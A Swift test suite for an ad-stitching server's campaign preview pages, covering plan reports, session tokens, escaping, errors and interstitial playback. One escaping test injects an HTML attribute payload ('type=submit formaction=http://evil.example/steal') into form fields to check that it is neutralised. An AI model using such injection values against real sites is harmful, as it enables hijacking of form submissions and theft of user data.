import AdCampaign
import AdCampaignStore
import AdDecision
import AdSessions
import AdStitchServer
import AdStitching
import Foundation
import HLSPlaylist
import Hummingbird
import HummingbirdTesting
import Testing

/// The campaign preview tool through the router: the pages show the plan the planner makes for
/// the form's context, and the preview master plays exactly that plan.
@Suite("Preview tool")
struct PreviewTests {
    static let at = "2026-11-27T19:30:00Z"
    static let query = "session=p-1&at=2026-11-27T19:30:00Z&locale=es-ES&device=tv"

    /// What the planner decides for the page's context (the expectation the pages must match).
    static func plan(session: String = "p-1", attributes: [String: String] = ["locale": "es-ES", "device": "tv"]) throws -> Plan {
        let served = try #require(RouteTests.store.campaign("evening-news"))
        let at = Date(timeIntervalSince1970: try #require(DateTime(Self.at)).secondsSinceEpoch.doubleValue)
        return Planner().plan(served.campaign, for: ViewerContext(session: session, at: at, attributes: attributes))
    }

    /// The text of the `<script type="application/json" id="…">` element of a page.
    static func embeddedJSON(_ id: String, in html: String) throws -> String {
        let open = "<script type=\"application/json\" id=\"\(id)\">"
        let start = try #require(html.range(of: open)).upperBound
        let end = try #require(html.range(of: "</script>", range: start..<html.endIndex)).lowerBound
        return String(html[start..<end]).replacingOccurrences(of: "\\u003c", with: "<")
    }

    @Test("a single programme asset's page and report say how each break cuts it")
    func singleAsset() async throws {
        try await RouteTests().app().test(.live) { client in
            try await client.execute(uri: "/preview/single-asset?session=p-1&at=2026-11-25T12:00:00Z", method: .get) { response in
                #expect(response.status == .ok)
                let html = String(buffer: response.body)
                #expect(html.contains("replaces 3.84 s of programme at 5.76 s — marker on line 13"), "\(html)")
                #expect(html.contains("replaces 1.92 s of programme at 15.36 s — marker on line 26"))
                #expect(html.contains("inserted at 23.04 s (asked for 24 s)") || html.contains("inserted at 23.04 s (asked for 24.0 s)"))
                // What validate warns about, with the campaign's own paths.
                #expect(
                    html.contains("<code>campaign.yaml:12</code> breaks[0].at: break &quot;late&quot; asked for at 24 s cuts at 23.04 s"),
                    "\(html)"
                )
            }
            try await client.execute(uri: "/preview/single-asset/report.json?session=p-1&at=2026-11-25T12:00:00Z", method: .get) { response in
                let json = try #require(try JSONSerialization.jsonObject(with: Data(response.body.readableBytesView)) as? [String: Any])
                let breaks = try #require(json["breaks"] as? [[String: Any]])
                #expect(breaks.map { $0["kind"] as? String } == ["replacement", "replacement", "insertion"])
                #expect(breaks.map { $0["id"] as? String } == ["cue-13", "splice-42", "late"])
            }
        }
    }

    @Test("/preview lists every campaign with its status and a link")
    func list() async throws {
        try await RouteTests().app().test(.live) { client in
            try await client.execute(uri: "/preview", method: .get) { response in
                #expect(response.status == .ok)
                #expect(response.headers[.contentType] == "text/html; charset=utf-8")
                let html = String(buffer: response.body)
                #expect(html.contains("<a href=\"/preview/evening-news\">Evening News</a>"))
                #expect(html.contains("<a href=\"/preview/feature-fmp4\">"))
                #expect(html.contains("<a href=\"/preview/single-asset\">"))
                #expect(html.contains("<a href=\"/preview/ad-server-news\">"))
                #expect(html.components(separatedBy: "<span class=\"ok\">loaded</span>").count == 5)
            }
        }
    }

    @Test("the page shows every piece with its stream times, every candidate's reason, startup, order and manifest")
    func page() async throws {
        let plan = try Self.plan()
        try await RouteTests().app().test(.live) { client in
            let html = try await client.execute(uri: "/preview/evening-news?\(Self.query)", method: .get) { response in
                #expect(response.status == .ok)
                #expect(response.headers[.contentSecurityPolicy]?.contains("default-src 'self'") == true)
                return String(buffer: response.body)
            }
            for piece in plan.pieces {
                let attributes = "data-kind=\"\(piece.kind.name)\" data-id=\"\(piece.id)\""
                #expect(
                    html.contains(
                        "\(attributes)\(piece.breakID.map { " data-break=\"\($0)\"" } ?? "") data-start=\"\(piece.start)\" data-end=\"\(piece.start + piece.duration)\""
                    )
                )
            }
            for planned in plan.breaks {
                #expect(
                    html.contains(
                        "<div class=\"break-reasons\" data-break=\"\(planned.adBreak.id)\" data-start=\"\(planned.start)\" data-end=\"\(planned.end)\">"
                    )
                )
            }
            // Spanish speakers never get bravo: the page names the rule.
            #expect(html.contains("<tr class=\"excluded\" data-ad=\"bravo\">"))
            #expect(html.contains("excluded by rule <code>spanish-speakers</code>"))
            // A TV gets the startup rule's pick, and the variant list starts with it.
            #expect(html.contains("Startup variant: <strong>v\(plan.startup.variant)</strong>"))
            #expect(html.contains("<li class=\"startup\"><code>v\(plan.startup.order[0])</code>"))
            // The embedded report and manifest are the library's, byte for byte.
            #expect(try Self.embeddedJSON("plan-report", in: html) == PlanReport(plan).json.text())
            #expect(try Self.embeddedJSON("boundary-manifest", in: html) == BoundaryManifest(plan).json.text())
            #expect(html.contains("src=\"/preview/evening-news/master.m3u8?"))
            #expect(html.contains("<script src=\"/preview/assets/preview.js\"></script>"))
            try await client.execute(uri: "/preview/assets/preview.js", method: .get) { response in
                #expect(response.status == .ok)
                #expect(String(buffer: response.body).contains("addEventListener(\"seeking\""))
            }
            try await client.execute(uri: "/preview/assets/preview.css", method: .get) { #expect($0.status == .ok) }
            try await client.execute(uri: "/preview/evening-news/report.json?\(Self.query)", method: .get) { response in
                #expect(String(buffer: response.body) == PlanReport(plan).json.text())
            }
        }
    }

    @Test(
        "one session start (issue 54): the preview's master makes the token the public master makes — insertion (campaign-aware auto), reporting, caps — for every shape of query; only its scope and decision time differ"
    )
    func oneSessionStart() async throws {
        let agents = ["AppleCoreMedia/1.0.0.21A329 (iPhone; U; CPU OS 17_0 like Mac OS X; en_us)", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120"]
        let shapes = ["", "&insertion=stitched", "&insertion=interstitials", "&insertion=auto"].flatMap { insertion in
            ["", "&reporting=server", "&reporting=client"].flatMap { reporting in
                ["", "&player=hls.js", "&player=hls.js/1.6.15", "&player=hls.js/1.7.0"].map { insertion + reporting + $0 }
            }
        }
        // The attributes the form states (a preview's context is the form's, not the operator's
        // browser's headers: the public start reads `device` and `locale` from them when absent).
        @Sendable func token(_ master: String) throws -> SessionToken {
            let uri = try #require(try PlaylistParser().parseMultivariantPlaylist(master).variants.first?.uri)
            let parts = uri.split(separator: "/")
            let index = try #require(parts.firstIndex(of: "sessions"))
            return try #require(SessionToken(decoding: parts[index + 1], secret: RouteTests.secret))
        }
        try await RouteTests().app().test(.live) { client in
            var compared = 0
            for campaign in ["evening-news", "single-asset"] {
                for (index, shape) in shapes.enumerated() {
                    let agent = agents[index % agents.count]
                    let headers: HTTPFields = [.userAgent: agent]
                    let public_ = try await client.execute(
                        uri: "/v1/campaigns/\(campaign)/master.m3u8?session=same&device=tv&locale=en-GB\(shape)",
                        method: .get,
                        headers: headers
                    ) {
                        ($0.status, String(buffer: $0.body))
                    }
                    let preview = try await client.execute(
                        uri: "/preview/\(campaign)/master.m3u8?session=same&device=tv&locale=en-GB&at=\(Self.at)\(shape)",
                        method: .get,
                        headers: headers
                    ) { ($0.status, String(buffer: $0.body)) }
                    try #require(public_.0 == .ok && preview.0 == .ok, "\(campaign) \(shape): \(public_.1) \(preview.1)")
                    let (viewer, previewed) = (try token(public_.1), try token(preview.1))
                    #expect(viewer.insertion == previewed.insertion, "\(campaign) \(shape) (\(agent))")
                    #expect(viewer.reporting == previewed.reporting, "\(campaign) \(shape)")
                    #expect(viewer.attributes == previewed.attributes && viewer.capped == previewed.capped, "\(campaign) \(shape)")
                    #expect(viewer.scope == .viewer && previewed.scope == .preview)
                    compared += 1
                }
            }
            // A mode the start does not know is refused by both.
            #expect(
                try await client.execute(uri: "/preview/evening-news/master.m3u8?session=x&reporting=nobody", method: .get) { $0.status }
                    == .badRequest
            )
            #expect(
                try await client.execute(uri: "/v1/campaigns/evening-news/master.m3u8?session=x&reporting=nobody", method: .get) { $0.status }
                    == .badRequest
            )
            #expect(compared == 2 * shapes.count)
        }
    }

    @Test("the preview master honours at: its boundary manifest is the plan the page shows")
    func masterHonoursAt() async throws {
        let plan = try Self.plan()
        try await RouteTests().app().test(.live) { client in
            let master = try await client.execute(uri: "/preview/evening-news/master.m3u8?\(Self.query)", method: .get) { response in
                #expect(response.status == .ok)
                return String(buffer: response.body)
            }
            let playlist = try PlaylistParser().parseMultivariantPlaylist(master)
            let manifestURI = try #require(playlist.sessionData.first { $0.value.dataID == "com.adstitch.boundaries" }?.value.uri)
            // A preview token: its files are served under /preview/… and never on the public API.
            #expect(manifestURI.hasPrefix("/preview/evening-news/sessions/"))
            try await client.execute(
                uri: manifestURI.replacingOccurrences(of: "/preview/evening-news/", with: "/v1/campaigns/evening-news/"),
                method: .get
            ) {
                #expect($0.status == .forbidden)
            }
            // evening-news reports server-side: the manifest hands the player no tracker.
            var expected = BoundaryManifest(plan)
            expected.listsTrackers = false
            try await client.execute(uri: manifestURI, method: .get) { response in
                #expect(response.status == .ok)
                #expect(String(buffer: response.body) == expected.json.text())
            }
            let first = try #require(playlist.variants.first?.uri)
            try await client.execute(uri: String(first), method: .get) { #expect($0.status == .ok) }
        }
    }

    @Test("form input: + is a space, more attributes are key=value lines, every value is escaped")
    func formInput() async throws {
        let plan = try Self.plan(session: "<b>x</b>", attributes: ["seen": "alpha, delta", "market": "uk", "tier": "gold"])
        try await RouteTests().app().test(.live) { client in
            let query = "session=%3Cb%3Ex%3C%2Fb%3E&at=\(Self.at)&seen=alpha%2C+delta&locale=&more=market%3Duk%0D%0Atier+%3D+gold"
            try await client.execute(uri: "/preview/evening-news?\(query)", method: .get) { response in
                #expect(response.status == .ok)
                let html = String(buffer: response.body)
                #expect(!html.contains("<b>x</b>"))
                #expect(html.contains("value=\"&lt;b&gt;x&lt;/b&gt;\""))
                let report = try Self.embeddedJSON("plan-report", in: html)
                #expect(report == PlanReport(plan).json.text())
            }
        }
    }

    @Test(
        "a special character followed by a combining mark is escaped on the page, the compare view and /play",
        arguments: ["\"", "'", "<", ">", "&"]
    )
    func combiningMarks(special: String) async throws {
        try await RouteTests().app().test(.live) { client in
            for mark in ["\u{301}", "\u{308}", "\u{20DD}", "\u{FE0F}", "\u{200D}"] {
                let hostile = special + mark + " type=submit formaction=http://evil.example/steal x=" + special + mark
                let encoded = try #require(hostile.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
                for uri in [
                    "/preview/evening-news?session=\(encoded)&at=\(Self.at)&locale=\(encoded)",
                    "/preview/evening-news/compare?session=\(encoded)&at=\(Self.at)&locale=\(encoded)&count=2",
                ] {
                    try await client.execute(uri: uri, method: .get) { response in
                        #expect(response.status == .ok, "\(uri)")
                        // Markup outside the JSON of <script type="application/json"> elements (JSON
                        // quotes by scalar; `<` is \u003c there): the special character never
                        // stands raw in front of its mark, where it would end an attribute.
                        var markup = String(buffer: response.body)
                        while let open = markup.range(of: "<script type=\"application/json\""),
                            let close = markup.range(of: "</script>", range: open.upperBound..<markup.endIndex)
                        {
                            markup.removeSubrange(open.lowerBound..<close.upperBound)
                        }
                        let html = Array(markup.utf8)
                        let raw = Array((special + mark).utf8)
                        #expect(!html.indices.contains { html[$0...].starts(with: raw) }, "\(uri): raw \(raw) on the page")
                        #expect(markup.contains("formaction=http://evil.example"), "the hostile value is on the page, escaped")
                        #expect(response.headers[.contentSecurityPolicy]?.contains("form-action 'self'") == true)
                    }
                }
            }
            try await client.execute(uri: "/play/evening-news", method: .get) { response in
                #expect(response.status == .ok)
                #expect(response.headers[.contentSecurityPolicy]?.contains("default-src 'self'") == true, "/play has a CSP")
            }
        }
    }

    @Test("a bad time or count is shown on the page with a 400; unknown campaigns are 404")
    func errors() async throws {
        try await RouteTests().app().test(.live) { client in
            try await client.execute(uri: "/preview/evening-news?at=tomorrow", method: .get) { response in
                #expect(response.status == .badRequest)
                let html = String(buffer: response.body)
                #expect(html.contains("at: tomorrow is not an ISO 8601 date-time"))
                #expect(html.contains("<form class=\"context\""))
                #expect(!html.contains("id=\"plan-report\""))
            }
            try await client.execute(uri: "/preview/evening-news/compare?count=500", method: .get) { response in
                #expect(response.status == .badRequest)
                #expect(String(buffer: response.body).contains("count: 500 must be a whole number from 1 to 24"))
            }
            try await client.execute(uri: "/preview/evening-news/master.m3u8?at=nope", method: .get) { response in
                #expect(response.status == .badRequest)
                #expect(response.headers[.contentType] == "application/problem+json")
            }
            try await client.execute(uri: "/preview/nope", method: .get) { #expect($0.status == .notFound) }
        }
    }

    @Test("compare shows N sessions of one context on one scale, and how often each ad played")
    func compare() async throws {
        let plans = try (1...4).map { try Self.plan(session: "p-1-\($0)") }
        try await RouteTests().app().test(.live) { client in
            try await client.execute(uri: "/preview/evening-news/compare?\(Self.query)&count=4", method: .get) { response in
                #expect(response.status == .ok)
                let html = String(buffer: response.body)
                for plan in plans {
                    let ads = plan.pieces.filter { if case .ad = $0.kind { true } else { false } }.map(\.id)
                    #expect(html.contains("<tr data-session=\"\(plan.context.session)\">"))
                    #expect(html.contains("<td>\(ads.joined(separator: ", "))</td></tr>"))
                }
                #expect(!html.contains("data-session=\"p-1-5\""))
                let plays = plans.flatMap(\.pieces).filter { $0.id == "delta" }.count
                #expect(html.contains("<tr><td><code>delta</code></td><td>\(plays)</td>"))
            }
        }
    }
}

/// The preview shows a plan in both insertion modes side by side.
@Suite("Preview tool: both insertion modes")
struct PreviewInsertionTests {
    @Test("the page shows the plan as interstitials too; with hls.js served both players use it where needed")
    func bothModes() async throws {
        let hlsJS = FileManager.default.temporaryDirectory.appendingPathComponent("preview-hls-\(UUID().uuidString.prefix(8)).js")
        try Data("window.Hls = function () {};\n".utf8).write(to: hlsJS)
        defer { try? FileManager.default.removeItem(at: hlsJS) }
        var policy = SessionPolicy(secret: RouteTests.secret)
        policy.preview = .open
        policy.previewPlayer = hlsJS
        let app = buildApplication(store: RouteTests.store, policy: policy)
        try await app.test(.live) { client in
            let page = try await client.execute(uri: "/preview/evening-news?\(PreviewTests.query)", method: .get) { String(buffer: $0.body) }
            #expect(page.contains("<h2>As HLS Interstitials"))
            #expect(page.contains("id=\"video-interstitials\""))
            #expect(page.contains("insertion=interstitials"))
            #expect(page.contains("<script src=\"/preview/assets/hls.js\"></script>"))
            // The interstitial form of the same plan: its date ranges and one asset list per break that plays.
            let plan = try PreviewTests.plan()
            for planned in plan.breaks where planned.duration > .zero {
                #expect(page.contains("ID=&quot;\(planned.adBreak.id)&quot;,CLASS=&quot;com.apple.hls.interstitial&quot;"))
                for ad in planned.ads { #expect(page.contains("/ads/\(ad.id)/master.m3u8")) }
            }
            try await client.execute(uri: "/preview/assets/hls.js", method: .get) { response in
                #expect(response.status == .ok)
                #expect(String(buffer: response.body) == "window.Hls = function () {};\n")
            }
            // The TS demo's stitched player stays native; the fMP4 demo's goes through hls.js.
            #expect(page.contains("<video id=\"video\" controls muted playsinline preload=\"metadata\" src="))
            let fmp4 = try await client.execute(uri: "/preview/feature-fmp4?\(PreviewTests.query)", method: .get) { String(buffer: $0.body) }
            #expect(fmp4.contains("<video id=\"video\" controls muted playsinline preload=\"metadata\" data-hls="))
            // The preview master plays the mode it is asked for.
            let master = try await client.execute(
                uri: "/preview/evening-news/master.m3u8?\(PreviewTests.query)&insertion=interstitials",
                method: .get
            ) {
                String(buffer: $0.body)
            }
            let uri = try #require(master.split(separator: "\n").first { $0.hasPrefix("/preview/evening-news/sessions/") })
            let media = try await client.execute(uri: String(uri), method: .get) { String(buffer: $0.body) }
            #expect(media.contains("com.apple.hls.interstitial"))
        }
        // Without hls.js: no player script, no hls.js route, a hint instead of the second player.
        try await RouteTests().app().test(.live) { client in
            let page = try await client.execute(uri: "/preview/evening-news?\(PreviewTests.query)", method: .get) { String(buffer: $0.body) }
            #expect(page.contains("<h2>As HLS Interstitials") && !page.contains("id=\"video-interstitials\""))
            try await client.execute(uri: "/preview/assets/hls.js", method: .get) { #expect($0.status == .notFound) }
        }
    }
}
